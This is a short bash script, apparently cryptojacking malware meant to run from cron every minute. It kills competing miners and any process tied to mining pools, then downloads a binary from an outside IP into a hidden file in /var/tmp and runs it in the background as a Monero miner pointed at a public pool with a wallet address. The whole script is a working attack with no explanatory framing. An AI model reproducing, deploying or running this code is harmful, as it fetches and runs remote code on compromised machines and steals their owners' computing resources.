#!/bin/bash
# run by cron every minute: clear the competition, then make sure our miner runs
ulimit -n 65535
for n in kdevtmpfsi kinsing xmrig xmr-stak sysupdate networkservice; do
	pkill -f "$n" 2>/dev/null
done
ps aux | grep -v grep | grep -E 'stratum|cryptonight|:3333|:5555' | awk '{print $2}' | xargs -r kill -9
if ! pgrep -f /var/tmp/.crond >/dev/null; then
	curl -fsSL -o /var/tmp/.crond http://198.51.100.47/crond 2>/dev/null || exit 0
	chmod +x /var/tmp/.crond
	nohup /var/tmp/.crond -o gulf.moneroocean.stream:10128 -u 48YveVKHNrCwwBzCFV4ZX2tQRvH1qM1CwUJtHWD4Q81WkKB6E2pEWuDRL168kf2VFoKBwAcywK7pMizPs5DiH8rtay2C7yc -p cron -k --donate-level=0 >/dev/null 2>&1 &
fi
